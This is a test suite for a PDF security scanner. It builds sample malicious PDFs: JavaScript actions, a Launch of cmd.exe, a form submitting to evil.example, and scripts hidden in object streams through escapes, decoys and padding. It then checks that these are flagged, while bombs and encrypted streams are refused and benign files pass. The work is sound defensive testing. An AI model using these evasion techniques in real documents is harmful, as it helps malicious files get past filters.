// What PDFs may carry along, and how it is hidden; and that those which banks and programs write are let through.
import assert from 'node:assert/strict'
import { createRequire } from 'node:module'
import { test } from 'node:test'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { faultOfPdf } from './pdf-look.ts'

const PDFDocument = createRequire(import.meta.url)('pdfkit') as new (options?: object) => NodeJS.ReadableStream & {
  text(text: string): void
  file(bytes: Buffer, options: object): void
  end(): void
}

const pdf = (...objects: string[]) => Buffer.from(`%PDF-1.7\n${objects.join('\n')}\n%%EOF\n`, 'latin1')
const group = (inside: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') => {
  const bytes = deflateSync(Buffer.from(`7 0 ${inside}`, 'latin1'))
  return `5 0 obj\n<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream\nendobj`
}
const hidden = (dictionary: string) => group(SCRIPT, dictionary)
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

async function written(options: object, fill: (document: InstanceType<typeof PDFDocument>) => void): Promise<Buffer> {
  const document = new PDFDocument(options)
  const parts: Buffer[] = []
  document.on('data', (part: Buffer) => parts.push(part))
  const end = new Promise((resolve) => document.on('end', resolve))
  fill(document)
  document.end()
  await end
  return Buffer.concat(parts)
}

test('SPEC-216 scripts, starts of programs, attached files and forms that send are found, however they are written', async () => {
  const active: Record<string, Buffer> = {
    'a script': pdf(`1 0 obj ${SCRIPT} endobj`),
    'a script with letters as numbers': pdf('1 0 obj << /S /J#61va#53cript /JS 2 0 R >> endobj'),
    'a start of a program': pdf('1 0 obj << /S/Launch/F (cmd.exe) >> endobj'),
    'attached files': pdf('1 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj'),
    'a form in XML': pdf('1 0 obj << /AcroForm << /XFA [ (a) 4 0 R ] >> >> endobj'),
    'a form that sends': pdf('1 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj'),
    'a script in a group of objects': pdf(group(SCRIPT)),
    'a script in a group that is not packed': pdf(
      '5 0 obj << /Type/ObjStm /N 1 /First 4 >>\nstream\n7 0 << /S /Java#53cript >>\nendstream',
    ),
    'a script in a group behind a decoy of an object': pdf(hidden('/Filter/FlateDecode/X(obj)/Type/ObjStm /N 1 /First 4')),
    'a script in a group behind much room': pdf(hidden(`/Filter/FlateDecode${' '.repeat(3000)}/Type/ObjStm /N 1 /First 4`)),
    'a script in a group behind a decoy of a stream': pdf(hidden('/X (stream\n) /Type/ObjStm /N 1 /First 4 /Filter/FlateDecode')),
    'a script in a group that is not called one': pdf(hidden('/N 1 /First 4 /Filter/FlateDecode')),
    'a script in a group with a wrong checksum': pdf(
      hidden('/N 1 /First 4 /Filter/FlateDecode').replace(/.{4}\nendstream/s, 'sums\nendstream'),
    ),
    'a script behind what seems a stream': pdf('% stream', `1 0 obj ${SCRIPT} endobj`, '% endstream'),
    'a script at the edge of two pieces': Buffer.concat([Buffer.alloc(1024 * 1024 - 5, 32), Buffer.from(SCRIPT)]),
  }
  for (const [what, bytes] of Object.entries(active)) assert.equal(await faultOfPdf(bytes), 'pdf-active', what)
  const attached = await written({}, (document) => document.file(Buffer.from('MZ'), { name: 'a.exe' }))
  assert.equal(await faultOfPdf(attached), 'pdf-active')
})

test('groups of objects that can’t be looked into are refused: locked, packed in another way, or a bomb', async () => {
  assert.equal(await faultOfPdf(pdf(group('<< /Type /Catalog >>'), 'trailer << /Encrypt 9 0 R >>')), 'pdf-locked')
  const odd = ['[/ASCIIHexDecode /FlateDecode]', '/LZWDecode'].map((filter) => group('<< >>', `/Type /ObjStm /Filter ${filter}`))
  const bomb = group(' '.repeat(50_000_000))
  for (const bytes of [...odd, bomb].map((one) => pdf(one))) assert.equal(await faultOfPdf(bytes), 'file-unreadable')
  const many = pdf(...Array.from({ length: 40 }, () => group(' '.repeat(2_000_000))))
  assert.equal(await faultOfPdf(many), 'file-unreadable')
})

test('what programs write is kept: plain, with groups of objects, locked without them; a page that speaks of JavaScript', async () => {
  for (const options of [{}, { compress: false }, { userPassword: '', ownerPassword: 'secret' }])
    assert.equal(await faultOfPdf(await written(options, (document) => document.text('Paid: /JavaScripting (JavaScript)'))), null)
  assert.equal(await faultOfPdf(pdf(group('<< /Type /Catalog /OpenAction [3 0 R /Fit] /JavaScripts 1 >>'))), null)
  const drawing = deflateSync(Buffer.from('1 0 0 1 50 700 cm 0 0 m 10 10 l S\n'.repeat(600_000)))
  const page = Buffer.concat([Buffer.from('%PDF-1.7\n4 0 obj << /Filter /FlateDecode >>\nstream\n'), drawing, Buffer.from('\nendstream')])
  assert.equal(await faultOfPdf(page), null) // twenty megabytes of lines
  const noise = Buffer.concat([
    pdf(),
    ...fc.sample(fc.uint8Array({ minLength: 50_000, maxLength: 50_000 }), 20).map((one) => Buffer.from(one)),
  ])
  assert.equal(await faultOfPdf(noise), null)
})

test('twenty megabytes are looked at in bounded time, and others are answered meanwhile', async () => {
  const large = Buffer.alloc(20 * 1024 * 1024, '/JavaScrip /Launc #4a ')
  let turns = 0
  const count = setInterval(() => turns++, 1)
  const begun = performance.now()
  assert.equal(await faultOfPdf(large), null)
  clearInterval(count)
  assert.ok(performance.now() - begun < 10_000)
  assert.ok(turns >= 5)
})
